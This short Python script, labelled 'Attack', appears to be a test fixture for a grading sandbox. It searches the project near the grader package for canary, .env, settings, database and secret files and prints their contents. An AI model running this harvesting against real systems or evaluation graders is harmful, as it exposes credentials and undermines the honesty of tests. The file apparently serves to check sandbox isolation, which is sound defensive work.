"""Attack: look through the project tree (everything near the grader package) for secret files such
as the test's hostile-canary file, settings and .env files, and print them."""
import glob
import os

import grader

project = os.path.dirname(os.path.dirname(grader.__file__))
loot = {}
patterns = ["**/*hostile-canary*", "**/.env", "**/settings*.py", "**/*.sqlite3", "**/*secret*"]
for pattern in patterns:
    for path in glob.glob(os.path.join(project, pattern), recursive=True):
        try:
            with open(path, errors="replace") as stream:
                loot[path] = stream.read()[:2000]
        except OSError:
            pass
print(sorted(os.listdir(project)), loot)

if any("hostile-canary" in path for path in loot):
    NAMES = ["a", "b"]

    def scale(x, k):
        return x * k
